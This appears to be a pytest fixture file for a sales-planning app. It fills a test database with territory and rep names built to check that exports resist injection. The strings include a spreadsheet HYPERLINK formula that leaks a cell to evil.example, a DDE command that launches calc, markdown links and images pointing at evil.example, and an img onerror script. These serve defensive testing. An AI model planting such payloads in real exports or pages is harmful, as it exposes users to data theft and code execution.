"""A company whose names are hostile: formula starts for spreadsheets, link and image syntax for
markdown. Every exit of the app (CSV, XLSX, page text) is tested on it."""
from __future__ import annotations

import pytest

from engine.store import Store
from tests.conftest import database_file
from tests.whatif.conftest import fill_planner_company

FORMULAS = ['=HYPERLINK("http://evil.example/?leak="&A1,"Open")', "+cmd|' /C calc'!A0", "@SUM(A1:A9)", "-2+3",
            "\t=1+1", "\r=2+2"]
MARKDOWN = {"FR": "[Sign in again](http://evil.example/login)", "UK": "![x](http://evil.example/x.png)",
            "DE": "<img src=x onerror=alert(1)> **bold** `code`", "EU": "Europe_*_~~struck~~"}


def rename(store: Store, territories: dict[str, str], reps: dict[str, str]) -> None:
    with store.transaction() as tx:
        for territory_id, name in territories.items():
            tx.execute("UPDATE territories SET name = ? WHERE territory_id = ?", [name, territory_id])
        for rep_id, name in reps.items():
            tx.execute("UPDATE reps SET name = ? WHERE rep_id = ?", [name, rep_id])


def fill_formula_company(store: Store) -> None:
    """The planner company (tests/whatif/conftest.py) with formula-looking names; Ben has no e-mail,
    so CRM files carry his (hostile) name as the owner."""
    fill_planner_company(store)
    rename(store, {"FR": FORMULAS[0], "UK": FORMULAS[1], "DE": FORMULAS[2], "EU": FORMULAS[4]},
           {"R1": FORMULAS[5], "R2": FORMULAS[3], "R3": "Chen"})


def fill_markdown_company(store: Store) -> None:
    fill_planner_company(store)
    rename(store, MARKDOWN, {"R1": "[Ana](http://evil.example/ana)", "R2": "![Ben](http://evil.example/b.png)",
                             "R3": "Chen"})


@pytest.fixture
def formula_db(tmp_path) -> str:
    return str(database_file(tmp_path / "formula.duckdb", fill_formula_company))
